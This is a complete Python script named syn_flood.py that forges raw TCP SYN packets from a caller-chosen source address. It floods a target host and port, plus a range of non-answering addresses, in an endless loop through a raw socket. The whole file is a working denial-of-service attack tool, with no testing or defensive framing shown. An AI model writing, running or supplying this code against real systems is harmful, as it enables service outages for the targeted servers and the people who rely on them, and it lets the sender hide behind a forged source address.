"""Sends SYNs from ever other ports, flat out, until it is ended: to a server, and to addresses that do not answer.

    syn_flood.py SOURCE HOST PORT SILENT-NETWORK

SILENT-NETWORK is the first three numbers of addresses such as 198.51.100. Prints "flooding" after the first 10,000. Needs
root, for a raw socket.
"""

import itertools
import socket
import struct
import sys

source, host, port, silent = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source_port, destination, destination_port):
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    header = struct.pack("!HHIIBBHHH", source_port, destination_port, source_port, 0, 5 << 4, 2, 64_240, 0, 0)
    total = checksum(addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header)) + header)
    header = header[:16] + struct.pack("!H", total) + header[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(header), 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses + header


packets = []
for number in range(20_000):
    packets.append((syn(1_024 + number, host, port), host))
    address = f"{silent}.{number % 200 + 1}"
    packets.append((syn(1_024 + number, address, 80), address))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for count, (packet, address) in enumerate(itertools.cycle(packets)):
    if count == 10_000:
        print("flooding", flush=True)
    try:
        raw.sendto(packet, (address, 0))
    except OSError:
        # The interface's queue is full.
        pass
